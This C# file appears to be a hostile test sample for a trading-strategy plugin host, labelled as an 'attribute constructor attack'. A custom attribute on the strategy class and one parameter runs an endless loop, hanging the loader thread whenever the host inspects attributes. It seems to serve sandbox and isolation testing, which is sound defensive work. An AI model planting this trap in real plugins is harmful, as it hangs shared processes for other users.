// Abuses: an attribute class of our own on class and parameter: its constructor runs when the host asks for attributes.
// Harm: strategy code runs on the loader's thread while the package is only being looked at, and hangs it.
// Kind: hurts another slot or the process.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.AttributeConstructorAttack;

[AttributeUsage(AttributeTargets.All)]
public sealed class TrapAttribute : Attribute
{
    public TrapAttribute()
    {
        for (long turn = 0; turn >= 0; turn = (turn + 1) & long.MaxValue) { }
    }
}

[Trap]
public sealed class AttributeConstructorStrategy : Strategy
{
    [Trap]
    [Parameter("size")]
    public long Size { get; set; } = 1;

    public override void OnBook(in BookEvent bookEvent) => Act(Size);

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
